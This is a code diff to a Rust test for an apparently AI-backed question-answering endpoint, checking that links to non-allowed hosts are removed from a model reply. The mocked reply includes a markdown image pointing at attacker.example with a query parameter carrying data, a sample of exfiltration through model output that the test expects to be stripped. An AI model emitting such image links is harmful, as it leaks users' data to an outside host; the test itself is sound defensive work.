@@ -212,12 +212,13 @@ async fn links_to_an_allowed_host_survive_and_the_rest_do_not() {
             serde_json::from_value(json!(["intranet.example.com"])).expect("a valid host list");
     })
     .await;
+    // (A claim its source supports: an unsupported one would lose its citation.)
     engine.set_chat_reply(Some(
-        "Book via [the travel portal](https://intranet.example.com/travel) [1]. \
+        "Travel expenses are reimbursed through [the travel portal](https://intranet.example.com/travel) [1]. \
          ![x](https://attacker.example/?d=CONDOR)"
             .into(),
     ));
-    let expected = "Book via [the travel portal](https://intranet.example.com/travel) [1]. x";
+    let expected = "Travel expenses are reimbursed through [the travel portal](https://intranet.example.com/travel) [1]. x";
 
     let (status, answer) = app.post("/v1/ask", &json!({ "question": QUESTION })).await;
     assert_eq!(status, 200, "{answer}");
